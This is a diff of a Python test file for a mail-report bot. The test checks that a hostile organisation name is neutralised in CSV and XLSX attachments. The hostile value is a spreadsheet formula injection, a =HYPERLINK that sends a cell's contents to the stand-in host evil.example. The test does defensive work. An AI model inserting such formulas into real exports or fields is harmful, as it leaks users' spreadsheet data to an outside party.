@@ -22,7 +22,7 @@ from mailbot.reports import files, xlsx
 from mailbot.reports.cells import Column, Table
 from mailbot.submissions import store
 from tests.mails import simple_mail
-from tests.stories import FIGURES
+from tests.stories import FIGURES, gegevens_csv, gegevens_xlsx
 
 HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Utrecht")'
 runner = CliRunner()
@@ -110,7 +110,8 @@ def test_gegevens_attachment_keeps_a_hostile_name_as_text(
     run_pass(bot)
 
     [reply] = smtp_sink.wait_for(1)
-    [attachment] = list(reply.message.iter_attachments())
-    rows = list(csv.DictReader(io.StringIO(attachment.get_content())))
-    assert {row["organisation"] for row in rows} == {f"'{HOSTILE}"}
-    assert {row["value"] for row in rows} == {str(value) for value in FIGURES.values()}
+    rows = gegevens_csv(reply.message)
+    assert {row["Organisatie"] for row in rows} == {f"'{HOSTILE}"}
+    assert {row["Aantal"] for row in rows} == {str(value) for value in FIGURES.values()}
+    book = gegevens_xlsx(reply.message)
+    assert {row["Organisatie"] for row in book} == {HOSTILE}
